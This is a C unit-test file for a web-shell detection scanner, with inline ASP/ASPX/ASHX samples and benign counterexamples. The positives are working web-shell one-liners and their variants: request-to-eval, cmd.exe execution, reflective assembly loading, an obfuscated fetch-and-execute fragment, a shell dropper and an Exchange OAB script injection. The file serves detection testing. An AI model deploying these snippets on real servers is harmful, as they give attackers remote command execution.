/*
 * test_heur.c - unit tests for the built-in web-shell heuristics (heur.c).
 *
 * Each heuristic gets small inline positives and negatives; the snippets are
 * reduced forms of real web shells (China Chopper, classic ASP one-liners,
 * cmd.aspx variants, Godzilla-style loaders) and of ordinary page code that
 * must stay quiet (client-side eval, data binding, ADO queries). Edge cases
 * cover empty input, NUL bytes, UTF-16, truncation at every prefix, the
 * max_hits contract, and multi-MB inputs that must finish in linear time.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "common/testutil.h"

#include "heur/heur.h"

/* ---------------------------------------------------------------------- */
/* Helpers */

typedef struct result {
  exh_heur_hit hits[EXH_HEUR_MAX_HITS];
  size_t n;
} result;

/* Scans `len` bytes and checks the invariants every scan must keep. */
static void scan_bytes(result *r, const void *data, size_t len, const char *ext)
{
  r->n = exh_heur_scan((const uint8_t *)data, len, ext, r->hits, EXH_HEUR_MAX_HITS);
  assert_true(r->n <= EXH_HEUR_MAX_HITS);
  for (size_t i = 0; i < r->n; i++) {
    assert_non_null(r->hits[i].rule);
    assert_non_null(r->hits[i].title);
    assert_non_null(r->hits[i].tag);
    assert_int_equal(strncmp(r->hits[i].rule, "exhunt.heur.", 12), 0);
    assert_true(r->hits[i].severity >= EXHUNT_SEV_INFO &&
                r->hits[i].severity <= EXHUNT_SEV_CRITICAL);
    assert_true(r->hits[i].offset <= len);
    assert_true(r->hits[i].offset + r->hits[i].len <= len);
  }
}

static void scan(result *r, const char *src, const char *ext)
{
  scan_bytes(r, src, strlen(src), ext);
}

/* Highest severity reported for `rule`, or -1 when the rule did not fire. */
static int sev_of(const result *r, const char *rule)
{
  int best = -1;
  for (size_t i = 0; i < r->n; i++)
    if (strcmp(r->hits[i].rule, rule) == 0 && (int)r->hits[i].severity > best)
      best = (int)r->hits[i].severity;
  return best;
}

static int max_sev(const result *r)
{
  int best = -1;
  for (size_t i = 0; i < r->n; i++)
    if ((int)r->hits[i].severity > best)
      best = (int)r->hits[i].severity;
  return best;
}

/* True when some hit of `rule` with `tag` covers text equal to `needle`'s start. */
static bool evidence_starts_with(const result *r, const char *src, const char *rule,
                                 const char *tag, const char *needle)
{
  for (size_t i = 0; i < r->n; i++)
    if (strcmp(r->hits[i].rule, rule) == 0 && strcmp(r->hits[i].tag, tag) == 0 &&
        r->hits[i].len >= strlen(needle) &&
        strncmp(src + r->hits[i].offset, needle, strlen(needle)) == 0)
      return true;
  return false;
}

#define EXEC "exhunt.heur.request_exec"
#define RFILE "exhunt.heur.request_file"
#define RSQL "exhunt.heur.request_sql"
#define SWRITE "exhunt.heur.script_write"
#define DECODE "exhunt.heur.decode_exec"
#define ALIAS "exhunt.heur.exec_alias"
#define LITERAL "exhunt.heur.shell_literal"
#define ENCODED "exhunt.heur.encoded_script"
#define INCLUDE "exhunt.heur.ssi_include"
#define OAB "exhunt.heur.oab_script"
#define ENTROPY "exhunt.heur.entropy"
#define COMMAND "exhunt.heur.shell_command"

#define CRIT ((int)EXHUNT_SEV_CRITICAL)
#define HIGH ((int)EXHUNT_SEV_HIGH)
#define MED ((int)EXHUNT_SEV_MEDIUM)
#define LOW ((int)EXHUNT_SEV_LOW)

/* Deterministic bytes for entropy tests (xorshift32). */
static uint32_t rng_next(uint32_t *s)
{
  uint32_t x = *s;
  x ^= x << 13;
  x ^= x >> 17;
  x ^= x << 5;
  return *s = x;
}

/* Widens ASCII to UTF-16LE (with BOM) into a malloc'd buffer. */
static uint8_t *utf16le(const char *s, size_t *out_len)
{
  size_t n = strlen(s);
  uint8_t *b = malloc(2 + 2 * n);
  assert_non_null(b);
  b[0] = 0xFF;
  b[1] = 0xFE;
  for (size_t i = 0; i < n; i++) {
    b[2 + 2 * i] = (uint8_t)s[i];
    b[3 + 2 * i] = 0;
  }
  *out_len = 2 + 2 * n;
  return b;
}

static double elapsed_since(clock_t t0)
{
  return (double)(clock() - t0) / CLOCKS_PER_SEC;
}

/* ---------------------------------------------------------------------- */
/* (1) request data reaching execution */

static void test_exec_china_chopper_jscript(void **state)
{
  (void)state;
  result r;
  const char *src = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>";
  scan(&r, src, ".aspx");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  assert_true(evidence_starts_with(&r, src, EXEC, "sink", "eval("));
  assert_true(evidence_starts_with(&r, src, EXEC, "source", "Request.Item"));
}

static void test_exec_classic_asp_forms(void **state)
{
  (void)state;
  static const char *const srcs[] = {
      "<%Execute(Request(\"x\"))%>",
      "<% eval request(\"x\") %>",
      "<%\r\nExecuteGlobal Request.Form(\"c\")\r\n%>",
      "<%If Request(\"a\")<>\"\" Then Execute(Request(\"a\"))%>",
      "<%eval(\"\"&request(\"pass\")&\"\")%>",
      "<SCRIPT RUNAT=SERVER LANGUAGE=VBSCRIPT>execute request(\"z\")</SCRIPT>",
      "<%EXECUTE   REQUEST . FORM ( \"z\" )%>",
  };
  for (size_t i = 0; i < sizeof srcs / sizeof srcs[0]; i++) {
    result r;
    scan(&r, srcs[i], ".asp");
    assert_int_equal(sev_of(&r, EXEC), CRIT);
  }
}

static void test_exec_code_in_evaluated_string(void **state)
{
  (void)state;
  result r;
  /* The evaluated text itself reads the request. */
  scan(&r, "<%eval\"\"&(\"eval(request(120-2-5))\")%>", ".asp");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  scan(&r,
       "<%set ms = server.CreateObject(\"MSScriptControl.ScriptControl.1\")\n"
       "ms.ExecuteStatement(\"ev\"&\"al(request(\"\"8090sec\"\"))\")%>",
       ".asp");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
}

static void test_exec_process_start_csharp(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
       "void Page_Load(object s, EventArgs e) {\n"
       "  System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]);\n}\n</script>",
       ".aspx");
  assert_int_equal(sev_of(&r, EXEC), CRIT);

  /* StartInfo.Arguments filled from a TextBox: high (a posted form field). */
  scan(&r,
       "<script runat=\"server\">void Run_Click(object s, EventArgs e) {\n"
       "Process p = new Process();\np.StartInfo.FileName = \"cmd.exe\";\n"
       "p.StartInfo.Arguments = \"/c \" + txtCmd.Text;\np.Start(); }</script>",
       ".aspx");
  assert_int_equal(sev_of(&r, EXEC), HIGH);

  /* Commands written to a shell's stdin. */
  scan(&r,
       "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Diagnostics;\n"
       "public class H : IHttpHandler { public void ProcessRequest(HttpContext context) {\n"
       "string x = context.Request[\"x\"];\nProcess prc = new Process();\n"
       "prc.StartInfo.FileName = \"cmd.exe\";\nprc.Start();\n"
       "prc.StandardInput.WriteLine(x);\n} }",
       ".ashx");
  assert_int_equal(sev_of(&r, EXEC), HIGH);
}

static void test_exec_reflection_load(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<%@ Page Language=\"C#\"%><%System.Reflection.Assembly.Load("
       "Convert.FromBase64String(Request.Form[\"p\"])).CreateInstance(\"U\").Equals(this);%>",
       ".aspx");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  assert_int_equal(sev_of(&r, DECODE), HIGH);

  /* Godzilla hides the call: typeof(Assembly).GetMethod("Load").Invoke(...). */
  scan(&r,
       "<%@ Page Language=\"C#\"%><%byte[] data = System.Convert.FromBase64String("
       "Context.Request[\"pass\"]);\nobject a = typeof(System.Reflection.Assembly)"
       ".GetMethod(\"Load\", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] "
       "{ data });%>",
       ".aspx");
  assert_true(sev_of(&r, EXEC) >= HIGH);
}

static void test_exec_through_variable(void **state)
{
  (void)state;
  result r;
  scan(&r, "<%\nx = Request(\"a\")\nExecute x\n%>", ".asp");
  assert_int_equal(sev_of(&r, EXEC), HIGH);
  /* JScript.NET type annotation and a line break before the call. */
  scan(&r,
       "<%@PAGE LANGUAGE=JSCRIPT%>\n<%var PAY:String=\nRequest[\"\\x61\\x62\"];eval\n"
       "(PAY,\"\\x75\\x6E\\x73\\x61\"+\n\"\\x66\\x65\");%>",
       ".aspx");
  assert_true(sev_of(&r, EXEC) >= HIGH);
}

static void test_exec_wscript_shell(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<%\nSet ws = Server.CreateObject(\"WScript.Shell\")\nws.Run Request(\"c\"), 0, True\n%>",
       ".asp");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  /* Without WScript.Shell, .Run is just a method. */
  scan(&r, "<%\nSet t = Server.CreateObject(\"My.Task\")\nt.Run Request(\"c\")\n%>", ".asp");
  assert_int_equal(sev_of(&r, EXEC), -1);
}

static void test_exec_wrapper_functions(void **state)
{
  (void)state;
  result r;
  /* Defined before use (classic ASP cmd shell). */
  scan(&r,
       "<%\nFunction getCommandOutput(theCommand)\n"
       "  Set objShell = CreateObject(\"WScript.Shell\")\n"
       "  Set objCmdExec = objshell.exec(thecommand)\n"
       "  getCommandOutput = objCmdExec.StdOut.ReadAll\nend Function\n%>\n"
       "<% szCMD = request(\"cmd\")\nthisDir = getCommandOutput(\"cmd /c\" & szCMD)%>",
       ".asp");
  assert_true(sev_of(&r, EXEC) >= HIGH);

  /* Called before it is defined (C# cmd.aspx). */
  scan(&r,
       "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
       "protected void btnExecute_Click(object sender, EventArgs e) {\n"
       "  Response.Write(Server.HtmlEncode(this.ExecuteCommand(txtCommand.Text)));\n}\n"
       "private string ExecuteCommand(string command) {\n"
       "  ProcessStartInfo psi = new ProcessStartInfo();\n  psi.FileName = \"cmd.exe\";\n"
       "  psi.Arguments = \"/c \" + command;\n  Process p = Process.Start(psi);\n"
       "  return p.StandardOutput.ReadToEnd();\n}\n</script>",
       ".aspx");
  assert_int_equal(sev_of(&r, EXEC), HIGH);
}

static void test_exec_webmethod_parameters(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<%@ WebService Language=\"C#\" Class=\"Service\" %>\nusing System.Diagnostics;\n"
       "public class Service : System.Web.Services.WebService {\n"
       "  [WebMethod]\n  public string Test(string Z1, string Z2) {\n"
       "    ProcessStartInfo c = new ProcessStartInfo(Z1, Z2);\n"
       "    Process.Start(c);\n    return \"\";\n  }\n}",
       ".asmx");
  assert_int_equal(sev_of(&r, EXEC), HIGH);
  /* JScript.NET form. */
  scan(&r,
       "<%@ WebService Language=\"JScript\" class=\"S\"%>import System;public class S extends "
       "WebService{ WebMethodAttribute function Invoke(Ivan : String) : Void{ eval(Ivan);} }",
       ".asmx");
  assert_true(sev_of(&r, EXEC) >= HIGH);
}

static void test_exec_code_files_and_razor(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<%@ WebHandler Language=\"JScript\" class=\"Spy\"%>import System;import System.Web;"
       "public class Spy implements IHttpHandler{function IHttpHandler.ProcessRequest(context : "
       "HttpContext){eval(context.Request[\"Ivan\"]);}}",
       ".ashx");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  scan(&r, "@{\n  System.Diagnostics.Process.Start(Request[\"c\"]);\n}\n<p>hi</p>", ".cshtml");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  /* Razor's client scripts are not server code. */
  scan(&r, "<p>x</p>\n<script>\nfunction go(request) { eval(request(\"x\")); }\n</script>",
       ".cshtml");
  assert_int_equal(max_sev(&r), -1);
}

static void test_exec_include_fragment_without_markup(void **state)
{
  (void)state;
  result r;
  /* An include file has no <% %>: ASP pastes it into a page as code. */
  scan(&r, "if Request(\"sb\")<>\"\" then ExecuteGlobal request(\"sb\") end if", ".asp");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
}

static void test_exec_utf16_and_unicode_escapes(void **state)
{
  (void)state;
  result r;
  size_t n;
  uint8_t *w =
      utf16le("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>", &n);
  scan_bytes(&r, w, n, ".aspx");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  free(w);

  scan(&r, "<%@ Page Language=\"C#\"%><% \\u0065val(Request.Item[\"x\"]); %>", ".aspx");
  assert_int_equal(sev_of(&r, EXEC), CRIT);
}

static void test_exec_negatives(void **state)
{
  (void)state;
  static const struct {
    const char *src, *ext;
  } cases[] = {
      /* Client-side script: eval and a variable named request mean nothing. */
      {"<%@ Page Language=\"C#\" %>\n<script type=\"text/javascript\">\n"
       "function Execute(code) { window.opener.eval(code); }\n"
       "function go(request) { eval(request(\"x\")); Execute(request[\"y\"]); }\n</script>",
       ".aspx"},
      /* ASP.NET data binding. */
      {"<asp:Repeater runat=\"server\"><ItemTemplate><%# Eval(\"Title\") %></ItemTemplate>"
       "</asp:Repeater>",
       ".aspx"},
      /* Echoing input is XSS at worst, not execution. */
      {"<%Response.Write(Request(\"x\"))%>", ".asp"},
      /* A declaration, not a call. */
      {"<script runat=\"server\">public object Eval(HttpRequest request) { return null; }"
       "</script>",
       ".aspx"},
      /* ADO's Execute is not VBScript's; a query with input joined in is not a shell. */
      {"<%conn.Execute(\"UPDATE t SET a=1 WHERE id=\" & Request(\"id\"))%>", ".asp"},
      /* Comments of every flavour. */
      {"<%\n' Execute(Request(\"x\"))\nx = 1\n%>", ".asp"},
      {"<script runat=\"server\">\n// eval(Request[\"x\"]);\n/* Process.Start(Request[\"c\"]); */\n"
       "</script>",
       ".aspx"},
      {"<%-- <% eval(Request(\"x\")) %> --%><p>x</p>", ".aspx"},
      /* VBScript compares with `=`: x is not assigned from the request here. */
      {"<%\nIf x = Request(\"a\") Then Response.Write \"ok\"\nExecute x\n%>", ".asp"},
      /* Client-only file types are never executed by IIS. */
      {"eval(Request(\"x\"));", ".js"},
      /* Ordinary upload and download code. */
      {"<script runat=\"server\">void Up(object s, EventArgs e) {\n"
       "FileUpload1.SaveAs(Server.MapPath(\"~/uploads/\") + FileUpload1.FileName);\n}</script>",
       ".aspx"},
      /* Process started with constants only. */
      {"<script runat=\"server\">void P() { Process.Start(\"notepad.exe\"); }</script>", ".aspx"},
  };
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    result r;
    scan(&r, cases[i].src, cases[i].ext);
    if (max_sev(&r) >= MED)
      fail_msg("case %zu raised %s", i, r.hits[0].rule);
  }
}

static void test_request_file_severity(void **state)
{
  (void)state;
  result r;
  /* A download handler confined to a folder: low at most. */
  scan(&r,
       "<script runat=\"server\">void D() { Response.TransmitFile(Server.MapPath(\"~/files/\" + "
       "Request[\"f\"])); }</script>",
       ".aspx");
  assert_true(sev_of(&r, RFILE) <= LOW);
  /* The path is the input: a file manager. */
  scan(&r,
       "<script runat=\"server\">string DownloadFile() {\nstring file = Request.Params[\"file\"];\n"
       "Response.WriteFile(file);\nreturn \"\"; }</script>",
       ".aspx");
  assert_int_equal(sev_of(&r, RFILE), MED);
  /* Uploader saving into a typed directory. */
  scan(&r,
       "<script Language=\"c#\" runat=\"server\">protected void UB_Click(object sender, EventArgs "
       "e) { if (upload.HasFile) { string filename = Path.GetFileName(upload.FileName); "
       "upload.SaveAs(CON.Text + \"\\\\\" + filename); } }</script>",
       ".aspx");
  assert_int_equal(sev_of(&r, RFILE), MED);
  scan(&r, "<%Request.Files(0).SaveAs(Server.MapPath(Request(\"f\")))%>", ".asp");
  assert_int_equal(sev_of(&r, RFILE), MED);
}

static void test_request_sql(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<script runat=\"server\">protected void Go(object s, EventArgs e) {\n"
       "SqlConnection c = new SqlConnection();\nc.ConnectionString = txtConnection.Text;\n"
       "SqlCommand q = new SqlCommand(txtSql.Text, c);\n}</script>",
       ".aspx");
  assert_int_equal(sev_of(&r, RSQL), HIGH);
  /* ADO with a connection string built from the request. */
  scan(&r,
       "<%\nset conn=Server.createobject(\"adodb.connection\")\n"
       "linkStr=\"driver={SQL Server};Server=\" & Request(\"ip\") & \";uid=sa\"\n"
       "conn.open linkStr\n%>",
       ".asp");
  assert_true(sev_of(&r, RSQL) >= HIGH);
  /* Connection strings from configuration are what applications do. */
  scan(&r,
       "<script runat=\"server\">void G() { c.ConnectionString = ConfigurationManager"
       ".ConnectionStrings[\"db\"].ConnectionString; }</script>",
       ".aspx");
  assert_int_equal(sev_of(&r, RSQL), -1);
}

static void test_script_write_and_droppers(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<script runat=\"server\">public void W(object s, EventArgs e) {\n"
       "System.IO.File.WriteAllText(HttpContext.Current.Request.PhysicalPath + \".aspx\", \"x\");"
       "\n}</script>",
       ".ascx");
  assert_int_equal(sev_of(&r, SWRITE), MED);
  const char *dropper =
      "<%@ WebHandler Language=\"C#\" Class=\"Handler\" %>\nusing System.IO;\n"
      "public class Handler : IHttpHandler { public void ProcessRequest(HttpContext context) {\n"
      "StreamWriter f = File.CreateText(context.Server.MapPath(\"root.asp\"));\n"
      "f.Write(\"<%response.clear:execute request(\\\"root\\\"):response.End%>\");\nf.Close();\n"
      "} }";
  scan(&r, dropper, ".ashx");
  assert_int_equal(sev_of(&r, LITERAL), HIGH);
  assert_int_equal(sev_of(&r, SWRITE), MED);
}

/* ---------------------------------------------------------------------- */
/* (2) OAB virtual-directory dumps */

static const char k_oab_dump[] =
    "\r\n"
    "Name                            : OAB (Default Web Site)\r\n"
    "PollInterval                    : 480\r\n"
    "OfflineAddressBooks             : \r\n"
    "RequireSSL                      : True\r\n"
    "BasicAuthentication             : False\r\n"
    "WindowsAuthentication           : True\r\n"
    "OAuthAuthentication             : True\r\n"
    "MetabasePath                    : IIS://EX01.contoso.local/W3SVC/1/ROOT/OAB\r\n"
    "Path                            : C:\\Program Files\\Microsoft\\Exchange "
    "Server\\V15\\FrontEnd\\HttpProxy\\OAB\r\n"
    "ExtendedProtectionTokenChecking : None\r\n"
    "InternalUrl                     : https://ex01.contoso.local/OAB\r\n"
    "InternalAuthenticationMethods   : {WindowsIntegrated}\r\n"
    "ExternalUrl                     : http://f/<script language=\"JScript\" "
    "runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>\r\n"
    "ExternalAuthenticationMethods   : {WindowsIntegrated}\r\n"
    "AdminDisplayVersion             : Version 15.1 (Build 2106.2)\r\n";

static void test_oab_dump_with_script(void **state)
{
  (void)state;
  result r;
  scan(&r, k_oab_dump, ".aspx");
  assert_int_equal(sev_of(&r, OAB), CRIT);
  assert_true(evidence_starts_with(&r, k_oab_dump, OAB, "url-field", "ExternalUrl"));
  assert_true(evidence_starts_with(&r, k_oab_dump, OAB, "script", "<script"));
  /* The embedded script is also request-to-eval. */
  assert_int_equal(sev_of(&r, EXEC), CRIT);
  /* Without an extension (a sample stored under its hash) the dump's
   * runat="server" keeps it critical; under a name IIS serves as bytes
   * (.js) it is a copy, reported at medium (exh_heur_ceiling). */
  scan(&r, k_oab_dump, "");
  assert_int_equal(sev_of(&r, OAB), CRIT);
  scan(&r, k_oab_dump, ".js");
  assert_int_equal(sev_of(&r, OAB), MED);
}

static void test_oab_dump_utf16(void **state)
{
  (void)state;
  result r;
  size_t n;
  uint8_t *w = utf16le(k_oab_dump, &n);
  scan_bytes(&r, w, n, ".aspx");
  assert_int_equal(sev_of(&r, OAB), CRIT);
  free(w);
}

static void test_oab_variants(void **state)
{
  (void)state;
  result r;
  /* A URL field with a script but nothing else of a dump: still high, and
   * medium in a .txt, which IIS never runs (an export an admin saved). */
  scan(&r, "InternalUrl : http://x/<script runat=server>Response.Write(1)</script>\n", "");
  assert_int_equal(sev_of(&r, OAB), HIGH);
  scan(&r, "InternalUrl : http://x/<script runat=server>Response.Write(1)</script>\n", ".txt");
  assert_int_equal(sev_of(&r, OAB), MED);
  /* <% %> works as well as <script> in an .aspx. */
  scan(&r,
       "Name : OAB (Default Web Site)\nPollInterval : 480\n"
       "ExternalUrl : http://f/<%eval(Request[\"x\"],\"unsafe\")%>\n",
       ".aspx");
  assert_int_equal(sev_of(&r, OAB), CRIT);
  /* Truncated right after <script: no runat, no hit, no crash. */
  scan(&r, "Name : OAB (Default Web Site)\nExternalUrl : http://f/<script", ".aspx");
  assert_int_equal(sev_of(&r, OAB), -1);
}

static void test_oab_negatives(void **state)
{
  (void)state;
  result r;
  /* A clean dump. */
  scan(&r,
       "Name : OAB (Default Web Site)\nPollInterval : 480\nOfflineAddressBooks : \n"
       "InternalUrl : https://ex01.contoso.local/OAB\n"
       "ExternalUrl : https://mail.contoso.com/OAB\nExternalAuthenticationMethods : {}\n",
       ".txt");
  assert_int_equal(max_sev(&r), -1);
  /* A script elsewhere than a URL field is not this artefact. */
  scan(&r,
       "Name : OAB (Default Web Site)\nPollInterval : 480\n"
       "Comment : <script runat=\"server\"></script>\nExternalUrl : https://mail.contoso.com/OAB\n",
       ".txt");
  assert_int_equal(sev_of(&r, OAB), -1);
  /* The ECP log line of the attack is evidence for the log readers, not a web shell. */
  scan(&r,
       "2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script "
       "language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){}</script>'''\n",
       ".log");
  assert_int_equal(sev_of(&r, OAB), -1);
}

/* ---------------------------------------------------------------------- */
/* (3) obfuscation */

static void test_decode_chr_chain(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<%\naspCode=PostHTTPPage(Chr ( 104 ) & Chr ( 116 ) & Chr ( 116 ) & Chr ( 112 ) & "
       "Chr ( 58 ) & Chr ( 47 ) & Chr ( 47 ))\nSession(\"aspCode\") = aspCode\nexecute aspCode\n%>",
       ".asp");
  assert_int_equal(sev_of(&r, DECODE), HIGH);
}

static void test_decode_base64_and_charcode(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<%@ Page Language=\"Jscript\"%><%eval(System.Text.Encoding.UTF8.GetString("
       "System.Convert.FromBase64String(\"UmVzcG9uc2UuV3JpdGUoMSk=\")),\"unsafe\");%>",
       ".aspx");
  assert_int_equal(sev_of(&r, DECODE), HIGH);
  scan(&r,
       "<script runat=\"server\" language=\"JScript\">eval(String.fromCharCode(82,101,115));"
       "</script>",
       ".aspx");
  assert_int_equal(sev_of(&r, DECODE), HIGH);
}

static void test_decode_split_strings_and_reverse(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<%eval(\"e\"&\"v\"&\"a\"&\"l\"&\"(\"&\"r\"&\"e\"&\"q\"&\"u\"&\"e\"&\"s\"&\"t\"&\")\")%>",
       ".asp");
  assert_int_equal(sev_of(&r, DECODE), HIGH);
  scan(&r, "<%Execute StrReverse(\")\"\"z\"\"(tseuqer lave\")%>", ".asp");
  assert_int_equal(sev_of(&r, DECODE), HIGH);
  /* A split name assigned first, then evaluated. */
  scan(&r,
       "<%@ Page Language = Jscript %><%var P=\"e\"+\"v\"+\"a\"+\"l\"+\"(\"+\"R\"+\"e\";"
       "eval (P,\"u\"+\"n\"+\"s\"+\"a\"+\"f\"+\"e\");%>",
       ".aspx");
  assert_int_equal(sev_of(&r, DECODE), HIGH);
}

static void test_decode_user_functions(void **state)
{
  (void)state;
  result r;
  /* The decoder is defined after it is used. */
  scan(&r,
       "<%Execute(DeAsc(\"%119%136%115\")):Function DeAsc(Str):Str=Split(Str,\"%\"):"
       "For I=1 To Ubound(Str):DeAsc=DeAsc&Chr(Str(I)-18):Next:End Function%>",
       ".asp");
  assert_int_equal(sev_of(&r, DECODE), HIGH);
  /* Decrypted into the Session, then executed from it. */
  scan(&r, "<%\ncode=Decrypt_PRO(crypt_PRO,Key)\nSession(\"k\")=code\nexecute(Session(\"k\"))\n%>",
       ".asp");
  assert_int_equal(sev_of(&r, DECODE), HIGH);
}

static void test_decode_negatives(void **state)
{
  (void)state;
  result r;
  scan(&r, "<%Response.Write \"a\" & Chr(13) & Chr(10) & \"b\"%>", ".asp");
  assert_int_equal(max_sev(&r), -1);
  scan(&r,
       "<script runat=\"server\">void K() { byte[] key = Convert.FromBase64String(cfgKey); }"
       "</script>",
       ".aspx");
  assert_int_equal(max_sev(&r), -1);
  scan(&r, "<%x = Server.HtmlDecode(Request(\"q\"))\nResponse.Write x%>", ".asp");
  assert_int_equal(max_sev(&r), -1);
}

static void test_shell_literal_base64(void **state)
{
  (void)state;
  result r;
  /* "UmVxdWVzdC5JdGVtWyJ6Il0=" is Base64 for Request.Item["z"]. */
  scan(&r,
       "<%popup(popup(System.Text.Encoding.GetEncoding(65001).GetString("
       "System.Convert.FromBase64String(\"UmVxdWVzdC5JdGVtWyJ6Il0=\"))));%>",
       ".aspx");
  assert_int_equal(sev_of(&r, LITERAL), HIGH);
}

static void test_exec_alias(void **state)
{
  (void)state;
  result r;
  scan(&r,
       "<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT> var P = Request.form('z'); var Wab = {'E' : "
       "eval}; Wab.E(P+''); </SCRIPT>",
       ".asp");
  assert_int_equal(sev_of(&r, ALIAS), HIGH);
  scan(&r,
       "<%@LANGUAGE=\"javascript\"%>\n<%_()(_(!-''));function _(__){if(__){return "
       "Request('_')+''}else{return  eval\n}}\n%>",
       ".asp");
  assert_int_equal(sev_of(&r, ALIAS), HIGH);
}

static void test_encoded_script(void **state)
{
  (void)state;
  result r;
  scan(&r, "<%@ LANGUAGE = VBScript.Encode %>\n<%#@~^FkQBAA==@#@&rU,2MDWMP\"n/!:nPg+aO@#@&%>",
       ".asp");
  assert_int_equal(sev_of(&r, ENCODED), MED);
  scan(&r, "<%@codepage=65000%>\n<%e+x-v+x-a+x-l(+x-r+x-e+x-q+x-u+x-e+x-s+x-t+x-(+x-)+x-)%>",
       ".asp");
  assert_int_equal(sev_of(&r, ENCODED), MED);
  scan(&r, "<%@ codepage=65001 %><% Response.Write \"#@~^ not a header\" %>", ".asp");
  assert_int_equal(sev_of(&r, ENCODED), -1);
}

static void test_ssi_include(void **state)
{
  (void)state;
  result r;
  scan(&r, "<!--#include file=\"logo.jpg\"-->", ".asp");
  assert_int_equal(sev_of(&r, INCLUDE), HIGH);
  scan(&r, "<!--#include file=\"litteryi.txt\"-->", ".asp");
  assert_int_equal(sev_of(&r, INCLUDE), MED);
  scan(&r, "<!-- #include virtual=\"header.inc\" -->\n<p>x</p>", ".aspx");
  assert_int_equal(sev_of(&r, INCLUDE), -1);
  scan(&r, "<!--#include file=\"conn.asp\"-->", ".asp");
  assert_int_equal(sev_of(&r, INCLUDE), -1);
}

static void test_shell_command(void **state)
{
  (void)state;
  result r;
  scan(&r, "<?xml version=\"1.0\"?>\n<root>cmd /c dir</root>\n", ".asp");
  assert_int_equal(sev_of(&r, COMMAND), LOW);
  assert_int_equal(max_sev(&r), LOW);
  scan(&r, "<%psi.Arguments = \"/c \" + x; psi.FileName = \"CMD.EXE /C whoami\"%>", ".aspx");
  assert_int_equal(sev_of(&r, COMMAND), LOW);
  /* Only in files IIS executes, and not inside longer words. */
  scan(&r, "run cmd /c dir", ".txt");
  assert_int_equal(sev_of(&r, COMMAND), -1);
  scan(&r, "<p>xcmd /c</p>", ".aspx");
  assert_int_equal(sev_of(&r, COMMAND), -1);
}

/* ---------------------------------------------------------------------- */
/* (4) entropy */

static void test_entropy_function(void **state)
{
  (void)state;
  const uint8_t same[64] = {0};
  assert_true(exh_heur_entropy(same, 0) == 0.0);
  assert_true(exh_heur_entropy(NULL, 10) == 0.0);
  assert_true(exh_heur_entropy(same, sizeof same) == 0.0);
  const uint8_t two[4] = {'a', 'b', 'a', 'b'};
  assert_float_equal(exh_heur_entropy(two, sizeof two), 1.0, 1e-9);
  uint8_t all[256];
  for (int i = 0; i < 256; i++)
    all[i] = (uint8_t)i;
  assert_float_equal(exh_heur_entropy(all, sizeof all), 8.0, 1e-9);
  const char *text = "the quick brown fox jumps over the lazy dog";
  double h = exh_heur_entropy((const uint8_t *)text, strlen(text));
  assert_true(h > 3.5 && h < 4.5);
}

/* `<%@ Page %><% string p = "<blob>"; %>` with a Base64-alphabet blob. */
static char *page_with_blob(size_t blob_len, const char *prefix)
{
  static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  size_t plen = strlen(prefix);
  char *s = malloc(blob_len + plen + 64);
  assert_non_null(s);
  uint32_t seed = 2463534242u;
  int k = sprintf(s, "<%%@ Page %%><%% string p = \"%s", prefix);
  for (size_t i = 0; i < blob_len; i++)
    s[k++] = b64[rng_next(&seed) % 64];
  strcpy(s + k, "\"; %>");
  return s;
}

static void test_entropy_blob(void **state)
{
  (void)state;
  result r;
  char *s = page_with_blob(2048, "");
  scan(&r, s, ".aspx");
  assert_int_equal(sev_of(&r, ENTROPY), MED);
  /* Client files and unscoped types are never judged by entropy. */
  scan(&r, s, ".js");
  assert_int_equal(sev_of(&r, ENTROPY), -1);
  scan(&r, s, ".config");
  assert_int_equal(sev_of(&r, ENTROPY), -1);
  free(s);
  /* Short blobs and data: URIs are ordinary. */
  s = page_with_blob(600, "");
  scan(&r, s, ".aspx");
  assert_int_equal(sev_of(&r, ENTROPY), -1);
  free(s);
  s = page_with_blob(4096, "data:image/png;base64,");
  scan(&r, s, ".aspx");
  assert_int_equal(sev_of(&r, ENTROPY), -1);
  free(s);
}

static void test_entropy_binary_and_text(void **state)
{
  (void)state;
  result r;
  size_t n = 8192;
  uint8_t *b = malloc(n);
  assert_non_null(b);
  uint32_t seed = 88172645u;
  for (size_t i = 0; i < n; i++)
    b[i] = (uint8_t)rng_next(&seed);
  memcpy(b, "GIF89a", 6);
  scan_bytes(&r, b, n, ".asp");
  assert_int_equal(sev_of(&r, ENTROPY), MED);
  scan_bytes(&r, b, n, ".gif");
